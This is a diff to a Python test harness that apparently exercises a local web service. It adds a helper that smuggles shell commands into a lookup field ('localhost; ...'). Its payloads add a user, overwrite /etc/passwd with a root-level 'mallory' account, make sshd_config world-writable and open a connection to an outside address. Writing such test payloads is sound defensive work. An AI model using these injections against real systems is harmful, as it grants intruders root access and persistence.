@@ -79,15 +79,19 @@ def lookup(name):
 def traffic(rounds=3):
     for _ in range(rounds):
         promise("Welcome" in must("curl", "-sf", "http://127.0.0.1:8080/"), "the front page is served")
-        promise("127.0.0.1" in lookup("localhost"), "the lookup of localhost is answered")
+        promise("localhost" in lookup("localhost"), "the lookup of localhost is answered")
+
+
+def injected(command):
+    """What makes the page run a command inside the service."""
+    return f"localhost; {command}"
 
 
 def python(code):
-    """An injection that runs Python inside the service."""
-    return f"x; python3 -c '{code}'"
+    return injected(f"python3 -c '{code}'")
 
 
-USERADD = "x; useradd mallory"
+USERADD = injected("useradd mallory")
 RENAME = python('import os; open("/etc/p", "w").write("mallory:x:0:0::/:/bin/sh\\n"); os.rename("/etc/p", "/etc/passwd")')
 CHMOD = python('import os; os.chmod("/etc/ssh/sshd_config", 0o666)')
 CONNECT = python('import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(("203.0.113.7", 25))')
